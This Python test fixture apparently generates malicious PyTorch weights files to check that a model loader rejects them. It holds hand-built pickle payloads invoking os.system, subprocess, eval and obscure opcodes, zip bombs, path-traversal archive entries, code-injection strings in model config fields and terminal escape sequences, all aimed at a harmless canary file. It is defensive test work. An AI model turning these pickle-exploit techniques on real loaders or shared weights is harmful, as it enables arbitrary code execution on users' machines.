"""Weights files that somebody with bad intentions, or a bad disk, could hand over.

Used by tests/engine/test_hostile.py.

A file that ran would make `canary`, or be seen by the audit hook of tests/helpers/watch.py.
"""

# ruff: noqa: E501  # a table reads best with a file per line
from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import torch

from ultralytics.nn.tasks import DetectionModel

Makers = dict[str, Callable[[Path], None]]


# Pickles, put together from instructions


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def number(value: int) -> bytes:
    """LONG1."""
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def named(path: str) -> bytes:
    """GLOBAL."""
    module, _, name = path.rpartition(".")
    return f"c{module}\n{name}\n".encode()


def tuple_(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(function: bytes | str, *args: bytes) -> bytes:
    """REDUCE."""
    return (named(function) if isinstance(function, str) else function) + tuple_(*args) + b"R"


def mapping(**entries: bytes) -> bytes:
    return b"}(" + b"".join(text(k) + v for k, v in entries.items()) + b"u"


def program(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def storage(key: str = "0", count: int = 4, kind: str = "torch.FloatStorage") -> bytes:
    """BINPERSID of a tensor's storage."""
    return tuple_(text("storage"), named(kind), text(key), text("cpu"), number(count)) + b"Q"


def tensor(size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, stored: bytes = b"") -> bytes:
    parts = [tuple_(*map(number, part)) for part in (size, stride)]
    return call(
        "torch._utils._rebuild_tensor_v2", stored or storage(), number(offset), *parts, b"\x89", call("collections.OrderedDict")
    )  # fmt: skip


def archive(path: Path, pickled: bytes, records: dict[str, bytes] | None = None, compression: int = 0) -> None:
    """A zip as torch.save writes it, with one storage of four floats."""
    with zipfile.ZipFile(path, "w", compression) as z:
        z.writestr("archive/data.pkl", pickled)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", bytes(16))
        z.writestr("archive/version", "3\n")
        for name, data in (records or {}).items():
            z.writestr(name, data)


def archived(bodies: dict[str, bytes], protocol: int = 2) -> Makers:
    """A maker of a weights file for each pickle."""
    return {k: partial(archive, pickled=program(b, protocol)) for k, b in bodies.items()}


class Reduced:
    """Pickles as a call of anything."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> Any:
        return self.function, self.args


# The files


def calls(canary: Path) -> Makers:
    """Pickles that call something, by every way a pickle has."""
    shell = text(f"touch {canary}")
    python = text(f"open({str(canary)!r}, 'w')")
    system = named("os.system")
    bodies: dict[str, bytes] = {
        "os.system": call("os.system", shell),
        "posix.system": call("posix.system", shell),
        "nt.system": call("nt.system", shell),
        "subprocess": call("subprocess.Popen", tuple_(text("touch"), text(str(canary)))),
        "subprocess by getoutput": call("subprocess.getoutput", shell),
        "eval": call("builtins.eval", python),
        "exec": call("builtins.exec", python),
        "eval of python 2": call("__builtin__.eval", python),
        "open": call("builtins.open", text(str(canary)), text("w")),
        "mkdir": call("os.mkdir", text(str(canary))),
        "getattr chain": call(
            call("builtins.getattr", call("builtins.__import__", text("os")), text("system")), shell
        ),
        "operator": call("operator.methodcaller", text("system"), shell) + tuple_(call("builtins.__import__", text("os"))) + b"R",
        "map": call("builtins.list", call("builtins.map", system, b"](" + shell + b"e")),
        "functools.partial": call("functools.partial", system, shell) + b")R",
        "nested": call("builtins.eval", call("builtins.str", call("builtins.eval", python))),
        "memo": system + b"q\x00" + b"0" + b"h\x00" + tuple_(shell) + b"R",
        "memo twice": named("collections.OrderedDict") + b"q\x000" + system + b"q\x000" + b"h\x00" + tuple_(shell) + b"R",
        "memo of arguments": tuple_(shell) + b"q\x010" + system + b"h\x01R",
        "memoize": system + b"\x94" + b"0" + b"h\x00" + tuple_(shell) + b"R",
        "dotted name": text("os") + text("path.os.system") + b"\x93" + tuple_(shell) + b"R",
        "stack name": text("os") + text("system") + b"\x93" + tuple_(shell) + b"R",
        "stack name of calls": call("builtins.str", text("os")) + text("system") + b"\x93" + tuple_(shell) + b"R",
        "new": system + tuple_(shell) + b"\x81",
        "new with keywords": named("subprocess.Popen") + b")" + mapping(args=shell, shell=b"\x88") + b"\x92",
        "instance": b"(" + shell + b"ios\nsystem\n",
        "object": b"(" + system + shell + b"o",
        "setstate": named("torch.nn.Module") + b")\x81" + mapping(__setstate__=system) + b"b" + shell + b"b",
        "state of a function": named("torch._utils._rebuild_tensor_v2") + b"N" + mapping(__code__=call("builtins.compile", python, text("x"), text("exec"))) + b"\x86b",
        "state of a class": named("collections.OrderedDict") + b"N" + mapping(update=system) + b"\x86b",
        "items of a class": named("os.environ") + text("PATH") + text("/nowhere") + b"s",
        "append to a function": system + shell + b"a",
        "extension": call("copyreg.add_extension", text("os"), text("system"), b"K\x07") + b"0" + b"\x82\x07" + tuple_(shell) + b"R",
        "extension of 2 bytes": b"\x83\x07\x00" + tuple_(shell) + b"R",
        "extension of 4 bytes": b"\x84\x07\x00\x00\x00" + tuple_(shell) + b"R",
        "copyreg": call("copyreg._reconstructor", named("subprocess.Popen"), named("builtins.object"), b"N"),
        "persistent id as text": b"Pos.system\n",
        "persistent id": call("os.system", shell) + b"Q",
        "storage of a function": tuple_(text("storage"), system, text("0"), text("cpu"), b"K\x04") + b"Q",
        "storage with a path": storage("../data.pkl"),
        "load_from_bytes": call("torch.storage._load_from_bytes", b"B" + struct.pack("<I", 9) + b"cos\nabort\n"[:9]),
        "torch.load": call("torch.load", text("/dev/stdin")),
        "torch.hub": call("torch.hub.load", text("evil/evil"), text("evil")),
        "torch._C": call("torch._C._jit_get_operation", text("aten::add")),
        "torch.ops": call("torch.ops.load_library", text("/tmp/evil.so")),
        "numpy reconstruct": call("numpy.core.multiarray._reconstruct", named("numpy.ndarray"), tuple_(b"K\x00"), b"C\x01b"),
        "numpy load": call("numpy.load", text("/etc/passwd")),
        "rebuild with a type": call("torch._tensor._rebuild_from_type_v2", system, named("torch.Tensor"), tuple_(shell), b"}"),
        "rebuild a subclass": call("torch._utils._rebuild_wrapper_subclass", named("os._Environ"), b")"),
        "parameter with state": call("torch._utils._rebuild_parameter_with_state", system, b"\x89", b"}", mapping(a=system)),
        "hooks of a tensor": call("torch._utils._rebuild_tensor_v2", storage(), b"K\x00", tuple_(b"K\x04"), tuple_(b"K\x01"), b"\x89", mapping(hook=system)),
        "bytearray": call("builtins.bytearray", number(10**12)),
        "codecs": call("_codecs.encode", text("a" * 10), text("hex")),
        "importlib": call("importlib.import_module", text("antigravity")),
        "webbrowser": call("webbrowser.open", text("http://127.0.0.1:9/")),
        "runpy": call("runpy._run_code", python, b"}"),
        "pty": call("pty.spawn", text("/bin/true")),
        "ctypes": call("ctypes.CDLL", text("/tmp/evil.so")),
        "string of protocol 0": b"cos\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR",
    }  # fmt: skip
    wrapped = {f"{k} as the model": mapping(model=v) for k, v in list(bodies.items())[:4]}
    return archived({**bodies, **wrapped})


def tensors() -> Makers:
    """Tensors that are not what they say, and bombs."""
    half = storage("1", 2**20, "torch.HalfStorage")
    module = named("torch.nn.modules.module.Module") + b")\x81"
    many = b"".join(text(f"w{i}") + tensor((2**20,), (1,), stored=half) for i in range(500))
    shared = module + mapping(
        _modules=b"}", _parameters=b"}(" + many + b"u", _buffers=b"}", yaml=mapping(backbone=b"]")
    )
    bodies = {
        "a size beyond the storage": tensor((5,), (1,)),
        "a stride beyond the storage": tensor((2, 2), (4, 1)),
        "an offset beyond the storage": tensor((1,), (1,), 4),
        "a negative size": tensor((-1,), (1,)),
        "a negative stride": tensor((4,), (-1,), 3),
        "a negative offset": tensor((1,), (1,), -1),
        "a huge size": tensor((2**62,), (1,)),
        "sizes whose product overflows": tensor((2**32, 2**32), (0, 0)),
        "a huge size without strides": tensor((10**12,), (0,)),
        "repeats of repeats": b"(" + b"".join(tensor((2**20, 2**3), (0, 0)) for _ in range(20)) + b"t",
        "sizes and strides of other length": tensor((1, 1), (1,)),
        "a thousand dimensions": tensor((1,) * 1000, (1,) * 1000),
        "a size as text": call("torch._utils._rebuild_tensor_v2", storage(), b"K\x00", text("44"), text("11")),
        "a tensor of a tensor": tensor((1,), (1,), stored=tensor((4,), (1,))),
        "a storage that is not there": tensor((1,), (1,), stored=storage("7")),
        "a storage larger than its record": storage(count=2**40),
        "a storage of negative size": storage(count=-4),
        "a storage of two kinds": b"(" + storage() + storage(kind="torch.IntStorage") + b"t",
        "an untyped storage": storage(kind="torch.storage.UntypedStorage", count=16),
        "broadcasting": tensor((4, 1), (1, 1)) + b"(" + tensor((4,), (1,)) + b"\x90",
        "a tensor's items": tensor((4,), (1,)) + b"K\x00K\x01s",
        "a tensor's state": tensor((4,), (1,)) + tuple_(tensor((1,), (1,)), b"K\x00", b"}", b"}") + b"b",
        "a tensor as a key": b"}" + tensor((4,), (1,)) + b"Ns",
    }
    makers = archived(bodies)
    data = {"archive/data/1": bytes(2**21)}
    makers["one half storage as 500 tensors"] = lambda p: archive(p, program(mapping(model=shared)), data)
    return makers


def streams() -> Makers:
    """Pickles that are too long, too deep, cut short, or end nowhere."""
    deep = 200_000
    shared = b"]q\x00" + b"".join(b"0](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60))
    own = mapping(format=text("ultralytics-fla"), format_version=b"K\x01", model=mapping(backbone=shared), names=b"}")
    bodies = {
        "deep lists": b"]" * deep + b"a" * (deep - 1),
        "deep tuples": b")" + b"\x85" * deep,
        "a deep tuple as a key": b"}" + b")" + b"\x85" * deep + b"Ns",
        "deep own data": mapping(format=text("ultralytics-fla"), model=b"]" * 9999 + b"a" * 9998),
        "deep marks": b"(" * deep,
        "doubled sixty times": own,
        "a list in itself": mapping(format=text("ultralytics-fla"), model=b"]q\x00h\x00a"),
        "a mapping in itself": b"}q\x00" + text("model") + b"h\x00s" + text("format") + text("ultralytics-fla") + b"s",
        "five million values": b"(" + b"N" * 5_000_000 + b"t",
        "five million sets": b"(" + b"\x8f" * 5_000_000 + b"t",
        "a long of 2 GB": b"\x8b" + struct.pack("<i", 2**31 - 1),
        "a long of negative length": b"\x8b" + struct.pack("<i", -1),
        "bytes of 4 EB": b"\x8e" + struct.pack("<Q", 2**62),
        "text of 4 EB": b"\x8d" + struct.pack("<Q", 2**62),
        "a bytearray of 1 TB": b"\x96" + struct.pack("<Q", 2**40),
        "a frame of 4 EB": b"\x95" + struct.pack("<Q", 2**62) + b"N",
        "a buffer": b"\x97\x98",
        "a number of a million digits": b"I" + b"9" * 10**6 + b"\n",
        "a name without end": b"c" + b"a" * 10**6,
        "keys that collide": b"}(" + b"".join(number(i * (2**61 - 1)) + b"N" for i in range(20_000)) + b"u",
        "an empty stack": b"0" * 9,
        "a tuple of nothing": b"\x87",
        "a memo that is not there": b"h\x09",
        "a reduce of nothing": b"R",
        "a state of nothing": b"b",
        "an unknown instruction": b"\xff",
        "text that is no UTF-8": b"X\x02\x00\x00\x00\xff\xfe",
        "an odd mapping": b"}(NNNu",
    }
    makers = archived(bodies, protocol=4)
    makers["no end"] = lambda p: archive(p, b"\x80\x02]")
    makers["an empty pickle"] = lambda p: archive(p, b"")
    return makers


def archives(canary: Path) -> Makers:
    """Zip files that are none, and formats of old."""
    bomb = program(call("os.system", text(f"touch {canary}")))

    def raw(path: Path, entries: list[tuple[str, bytes]]) -> None:
        with zipfile.ZipFile(path, "w") as z:
            for name, data in entries:
                z.writestr(name, data)

    def duplicate(path: Path) -> None:
        archive(path, bomb)
        data = path.read_bytes().replace(b"archive/version", b"archive/data/0\0".ljust(15, b"0")[:15])
        path.write_bytes(data.replace(b"archive/byteorder", b"archive/data.pkl\0"[:17]))

    def declared(path: Path) -> None:
        """Sizes of 4 GB in the central directory."""
        archive(path, bomb)
        data = bytearray(path.read_bytes())
        at = data.find(b"PK\x01\x02")
        data[at + 20 : at + 28] = b"\xf0\xff\xff\xff" * 2
        path.write_bytes(data)

    def overlapping(path: Path) -> None:
        """Every entry of the directory points at one record of 16 MB."""
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("archive/data.pkl", program(b"}"))
            z.writestr("archive/data/0", bytes(2**24))
            big = z.infolist()[-1]
            for i in range(1, 1000):
                info = zipfile.ZipInfo(f"archive/data/{i}")
                info.file_size = info.compress_size = big.file_size
                info.CRC, info.header_offset = big.CRC, big.header_offset
                z.filelist.append(info)
                z.NameToInfo[info.filename] = info

    def encrypted(path: Path) -> None:
        archive(path, bomb)
        data = bytearray(path.read_bytes())
        at = data.find(b"PK\x01\x02")
        data[at + 8] |= 1
        path.write_bytes(data)

    def legacy(path: Path) -> None:
        torch.save({"model": Reduced(os.system, f"touch {canary}")}, path, _use_new_zipfile_serialization=False)

    def tar(path: Path) -> None:
        with tarfile.open(path, "w") as t:
            for name in ("sys_info", "pickle", "storages", "tensors"):
                info = tarfile.TarInfo(name)
                info.size = len(bomb)
                t.addfile(info, io.BytesIO(bomb))

    def nested(path: Path) -> None:
        archive(path, bomb)
        raw(path, [("archive/inner.zip", path.read_bytes()), ("archive/data.pkl", bomb)])

    def cut(path: Path) -> None:
        archive(path, bomb)
        path.write_bytes(path.read_bytes()[:-30])

    def flipped(path: Path) -> None:
        """A bit of a storage's bytes, which its checksum tells."""
        archive(path, program(tensor((4,), (1,))), {"archive/data/1": b"unique bytes"})
        path.write_bytes(path.read_bytes().replace(b"byteorderlittle", b"byteorderlittke"))

    bombs = {"archive/data/1": bytes(2**28)}
    return {
        "a zip bomb": lambda p: archive(p, program(b"}"), bombs, zipfile.ZIP_DEFLATED),
        "a compressed pickle": lambda p: archive(p, program(b"N" * 2**24), None, zipfile.ZIP_DEFLATED),
        "records of one name": duplicate,
        "a declared size of 4 GB": declared,
        "overlapping records": overlapping,
        "an encrypted record": encrypted,
        "two pickles": lambda p: raw(p, [("a/data.pkl", bomb), ("b/data.pkl", bomb)]),
        "a path upwards": lambda p: raw(p, [("../data.pkl", bomb), ("../../etc/passwd", b"x")]),
        "an absolute path": lambda p: raw(p, [("/data.pkl", bomb)]),
        "no pickle": lambda p: raw(p, [("readme.txt", b"hello")]),
        "an empty zip": lambda p: raw(p, []),
        "a zip in a zip": nested,
        "a TorchScript archive": lambda p: raw(
            p, [("m/data.pkl", bomb), ("m/constants.pkl", bomb), ("m/code/__torch__.py", b"import os")]
        ),
        "big-endian": lambda p: raw(p, [("a/data.pkl", bomb), ("a/byteorder", b"big")]),
        "a byte order of a megabyte": lambda p: raw(p, [("a/data.pkl", bomb), ("a/byteorder", b"l" * 2**20)]),
        "a flipped bit": flipped,
        "the legacy format": legacy,
        "the legacy tar": tar,
        "a bare pickle": lambda p: p.write_bytes(pickle.dumps(Reduced(os.system, f"touch {canary}"))) and None,
        "cut short": cut,
        "a text file": lambda p: p.write_text("weights\n", encoding="utf-8") and None,
        "an empty file": lambda p: p.write_bytes(b"") and None,
        "zeros": lambda p: p.write_bytes(bytes(10_000)) and None,
        "a directory": lambda p: p.mkdir(),
        "a symlink to itself": lambda p: p.symlink_to(p.name),
        "a symlink to a device": lambda p: p.symlink_to("/dev/zero"),
        "a fifo": os.mkfifo,
    }


def fields() -> Makers:
    """Files of this project with something else in each of their entries."""
    model = DetectionModel("yolov8n.yaml", nc=2, verbose=False)
    rows = {**model.yaml, "scales": {"n": [0.1, 0.06, 64]}}
    small = DetectionModel(rows, verbose=False)
    whole: dict[str, Any] = {
        "format": "ultralytics-fla", "format_version": 1, "model": small.yaml, "names": {0: "a", 1: "b"},
        "ema": small.state_dict(),
        "epoch": 0, "fitness": 0.5, "best_fitness": 0.5, "train_args": {"data": "gone.yaml", "epochs": 3},
        "weights": small.state_dict(), "updates": 1, "optimizer_name": "AdamW",
        "optimizer": {"state": {}, "param_groups": []}, "scaler": {}, "best_epoch": 0, "last_opt_step": 0,
        "pending_gradients": {}, "rng": {}, "results": [],
    }  # fmt: skip
    yaml = small.yaml
    first = next(iter(small.state_dict()))

    def row(module: Any, args: Any = (1024, 5), repeats: Any = 1, sources: Any = -1) -> dict[str, Any]:
        backbone = [*yaml["backbone"][:9], [sources, repeats, module, list(args) if isinstance(args, tuple) else args]]
        return {**yaml, "backbone": backbone}

    wrong: dict[str, tuple[str, Any]] = {
        "an epoch as text": ("epoch", "x"),
        "an epoch as a tensor": ("epoch", torch.ones(3)),
        "a negative epoch": ("epoch", -7),
        "a version as text": ("format_version", "1"),
        "a later version": ("format_version", 10**30),
        "arguments as a list": ("train_args", [1]),
        "arguments as tensors": ("train_args", {"data": torch.ones(2)}),
        "names as a tensor": ("names", torch.ones(2)),
        "names with text as ids": ("names", {"x": "a"}),
        "names with a gap": ("names", {0: "a", 7: "b"}),
        "names that are numbers": ("names", {0: 1, 1: 2}),
        "no weights": ("ema", None),
        "weights as numbers": ("ema", {"a": 1}),
        "weights of another network": ("ema", {"a": torch.ones(1)}),
        "weights of another shape": ("ema", {**small.state_dict(), first: torch.ones(1)}),
        "results as text": ("results", "x"),
        "results of text": ("results", [{"epoch": "x"}]),
        "an optimiser as a list": ("optimizer", []),
        "random state as a number": ("rng", 3),
        "a record as text": ("provenance", "x"),
        "a model as a list": ("model", [1, 2]),
        "a model without rows": ("model", {"nc": 2}),
        "a model with a tensor": ("model", {**yaml, "nc": torch.ones(1)}),
        "a model with bytes": ("model", row("SPPF", [b"x"])),
        "a module that is a function": ("model", row("os.system", ("id",))),
        "a module of another package": ("model", row("nn.os.system", ("id",))),
        "a module with dunders": ("model", row("nn.__builtins__", ("id",))),
        "a module that is code": ("model", row("__import__('os').system('id')", ())),
        "an activation that is code": ("model", {**yaml, "activation": "__import__('os').system('id')"}),
        "an activation of another kind": ("model", {**yaml, "activation": "nn.Transformer()"}),
        "arguments that are code": ("model", row("SPPF", ("__import__('os')",))),
        "a network of 10^12 parameters": ("model", row("nn.Linear", (10**6, 10**6))),
        "a network of 10^9 layers": ("model", row("nn.Transformer", (512, 8, 10**9))),
        "a billion repeats": ("model", row("C2f", (1024,), 10**9)),
        "a depth of 10^300": ("model", {**yaml, "scales": {"n": [1e300, 1, 64]}}),
        "a width of 10^6": ("model", {**yaml, "scales": {"n": [1, 1e6, 1e6]}}),
        "a billion classes": ("model", {**yaml, "nc": 10**9}),
        "a billion channels": ("model", {**yaml, "ch": 10**9}),
        "rows that name themselves": ("model", row("SPPF", sources=[9])),
        "ten thousand rows": ("model", {**yaml, "backbone": [[-1, 1, "nn.Identity", []]] * 10_000}),
        "a long error": ("model", row(["x" * 10**6])),
        "an error with escapes": ("model", row("\x1b]0;owned\x07\x1b[2J\n\nmodule")),
    }
    return {k: partial(torch.save, {**whole, name: value}) for k, (name, value) in wrong.items()}


def foreign() -> Makers:
    """Files in the reference's form, with something else in the places that are read."""
    module = named("ultralytics.nn.tasks.DetectionModel") + b")\x81"
    rows = b"](" + b"](" + b"J\xff\xff\xff\xff" + b"K\x01" + text("Conv") + b"](K\x10K\x03ee" + b"e"

    def model(**entries: bytes) -> bytes:
        yaml = mapping(nc=b"K\x02", backbone=rows, head=rows)
        state = {"_modules": b"}", "_parameters": b"}", "_buffers": b"}", "names": b"}", "yaml": yaml} | entries
        return mapping(model=module + mapping(**state) + b"b")

    bodies = {
        "names with text as ids": model(names=mapping(x=text("a"))),
        "names as a function": model(names=named("os.system")),
        "names within themselves": model(names=b"}q\x00K\x00h\x00s"),
        "modules within themselves": mapping(
            model=module + b"q\x00" + mapping(_modules=mapping(a=b"h\x00"), yaml=mapping(backbone=rows)) + b"b"
        ),
        "modules as a list": model(_modules=b"]"),
        "parameters as a list": model(_parameters=b"](NNe"),
        "no modules": mapping(model=module),
        "a YAML of functions": model(yaml=mapping(backbone=named("os.system"))),
        "a YAML within itself": model(yaml=b"}q\x00" + text("backbone") + b"h\x00s"),
        "a model that is a tensor": mapping(ema=tensor((4,), (1,)), model=tensor((4,), (1,))),
        "a model without a head": model(),
        "hooks": model(_forward_hooks=mapping(a=named("os.system"))),
        "arguments as functions": model()[:-1] + text("train_args") + named("os.system") + b"u",
    }
    return archived(bodies)


def hostile(folder: Path, canary: Path) -> dict[str, Path]:
    """Make all files; their paths by what they are."""
    made = {}
    for kind, makers in {
        "calls": calls(canary), "tensors": tensors(), "streams": streams(),
        "archives": archives(canary), "fields": fields(), "foreign": foreign(),
    }.items():  # fmt: skip
        for number_, (name, make) in enumerate(makers.items()):
            path = folder / f"{kind}{number_}.pt"
            make(path)
            made[f"{kind}: {name}"] = path
    return made
